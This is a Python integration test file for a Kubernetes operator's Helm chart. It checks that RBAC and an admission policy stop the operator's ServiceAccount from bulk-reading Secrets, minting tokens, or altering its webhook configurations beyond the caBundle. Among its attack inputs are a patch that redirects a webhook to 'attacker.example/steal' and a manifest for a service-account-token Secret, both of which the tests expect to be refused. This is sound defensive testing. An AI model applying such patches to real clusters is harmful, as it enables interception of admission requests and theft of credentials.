"""What the operator's ServiceAccount may do, asked of the real API server.

RBAC says which verbs on which resources; the chart's ValidatingAdmissionPolicy
says which fields. Both are only proven by an API server that enforces them:
``kubectl auth can-i`` answers for RBAC, and writes made with the operator's own
token show what the policy refuses.
"""

from __future__ import annotations

import base64
import json
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from .conftest import OPERATOR_NAMESPACE, OPERATOR_USER, RELEASE, Operator
from .localcluster import Cluster

pytestmark = pytest.mark.integration

ROOT = Path(__file__).resolve().parent.parent


def can(local: Cluster, user: str, verb: str, resource: str, namespace: str | None) -> bool:
    where = ["-n", namespace] if namespace else []
    result = local.run(
        "kubectl", "auth", "can-i", verb, resource, *where, f"--as={user}", check=False
    )
    answer = result.stdout.strip()
    assert answer in ("yes", "no"), result.stderr
    return answer == "yes"


def as_operator(
    local: Cluster, operator: Operator, *args: str, input: str | None = None
) -> subprocess.CompletedProcess[str]:
    """kubectl with the operator's own ServiceAccount token."""
    return local.run("kubectl", *args, input=input, check=False, kubeconfig=operator.kubeconfig)


@pytest.fixture
def tenants(local: Cluster) -> Iterator[tuple[str, str, str]]:
    """A second release watching one namespace of two, without webhooks (the
    session's release owns those): its ServiceAccount's name, and the two namespaces."""
    release, served, other = "scoped", "scoped-served", "scoped-other"
    for name in (release, served, other):
        local.kubectl("create", "namespace", name)
    values = {"watchNamespaces": [served], "webhooks": {"enabled": False}}
    try:
        local.run(
            "helm", "install", release, str(ROOT / "charts" / "rampart"), "--namespace", release,
            "--skip-crds", "--values", "-", input=json.dumps(values),
        )  # fmt: skip
        account = f"system:serviceaccount:{release}:{release}-rampart"
        yield account, served, other
    finally:
        local.run("helm", "uninstall", release, "--namespace", release, check=False)
        for name in (release, served, other):
            local.kubectl("delete", "namespace", name, "--wait=false", check=False)


def test_with_watch_namespaces_the_operator_writes_and_reads_secrets_only_there(
    local: Cluster, tenants: tuple[str, str, str]
) -> None:
    account, served, other = tenants
    for verb, resource in (
        ("create", "deployments.apps"),
        ("patch", "services"),
        ("delete", "cronjobs.batch"),
        ("patch", "hardenedservices.rampart.dev/status"),
        ("get", "secrets"),
    ):
        assert can(local, account, verb, resource, served), (verb, resource)
        for elsewhere in (other, "kube-system", OPERATOR_NAMESPACE):
            assert not can(local, account, verb, resource, elsewhere), (verb, resource, elsewhere)
    # Secrets are read one by one, never listed, created or changed, even where it serves.
    for verb in ("list", "watch", "create", "patch"):
        assert not can(local, account, verb, "secrets", served), verb
    assert not can(local, account, "create", "serviceaccounts/token", served)
    # Cluster-wide: reads only, and no webhook configuration to patch without webhooks.
    assert can(local, account, "get", "namespaces", None)
    assert can(local, account, "watch", "customresourcedefinitions.apiextensions.k8s.io", None)
    assert not can(local, account, "patch", "validatingwebhookconfigurations", None)
    assert not can(local, account, "create", "clusterrolebindings", None)


def test_the_cluster_wide_operator_cannot_read_secrets_in_bulk_or_mint_tokens(
    local: Cluster,
) -> None:
    assert can(local, OPERATOR_USER, "get", "secrets", "kube-system")  # the explicit choice
    for verb in ("list", "watch", "create", "patch", "delete"):
        assert not can(local, OPERATOR_USER, verb, "secrets", "kube-system"), verb
    assert not can(local, OPERATOR_USER, "create", "serviceaccounts/token", OPERATOR_NAMESPACE)
    assert can(local, OPERATOR_USER, "patch", f"validatingwebhookconfigurations/{RELEASE}", None)
    assert not can(local, OPERATOR_USER, "patch", "validatingwebhookconfigurations/other", None)
    assert not can(local, OPERATOR_USER, "create", "validatingadmissionpolicies", None)
    assert not can(local, OPERATOR_USER, "delete", "validatingadmissionpolicybindings", None)


@pytest.mark.parametrize("kind", ["validatingwebhookconfiguration", "mutatingwebhookconfiguration"])
def test_its_token_can_change_only_the_ca_bundle_of_its_webhook_configurations(
    local: Cluster, operator: Operator, kind: str
) -> None:
    before = local.get(kind, RELEASE) or {}
    webhook = before["webhooks"][0]["clientConfig"]
    other_policy = "Fail" if before["webhooks"][0]["failurePolicy"] == "Ignore" else "Ignore"
    hijack = {"url": "https://attacker.example/steal", "caBundle": webhook["caBundle"]}
    for patch in (
        [{"op": "replace", "path": "/webhooks/0/clientConfig", "value": hijack}],
        [{"op": "replace", "path": "/webhooks/0/failurePolicy", "value": other_policy}],
        [{"op": "add", "path": "/webhooks/0/objectSelector", "value": {"matchLabels": {"x": "y"}}}],
        [{"op": "remove", "path": "/webhooks/0"}],
    ):
        refused = as_operator(
            local, operator, "patch", kind, RELEASE, "--type=json", "-p", json.dumps(patch)
        )
        assert refused.returncode != 0, patch
        assert "may change only caBundle" in refused.stderr, refused.stderr
    assert (local.get(kind, RELEASE) or {})["webhooks"] == before["webhooks"]
    # What it is there for still goes through: caBundle (here set to what it was).
    same = [
        {"op": "replace", "path": "/webhooks/0/clientConfig/caBundle", "value": webhook["caBundle"]}
    ]
    allowed = as_operator(
        local, operator, "patch", kind, RELEASE, "--type=json", "-p", json.dumps(same)
    )
    assert allowed.returncode == 0, allowed.stderr


def test_its_token_can_write_no_secret_but_its_webhook_certificates(
    local: Cluster, operator: Operator
) -> None:
    for manifest in (
        {
            "apiVersion": "v1",
            "kind": "Secret",
            "metadata": {
                "name": "minted",
                "namespace": OPERATOR_NAMESPACE,
                "annotations": {"kubernetes.io/service-account.name": RELEASE},
            },
            "type": "kubernetes.io/service-account-token",
        },
        {
            "apiVersion": "v1",
            "kind": "Secret",
            "metadata": {"name": "planted", "namespace": OPERATOR_NAMESPACE},
            "data": {"x": base64.b64encode(b"y").decode()},
        },
    ):
        refused = as_operator(local, operator, "create", "-f", "-", input=json.dumps(manifest))
        assert refused.returncode != 0
        assert "may write only its webhook certificate's Secret" in refused.stderr, refused.stderr
        assert local.get("secret", manifest["metadata"]["name"], OPERATOR_NAMESPACE) is None
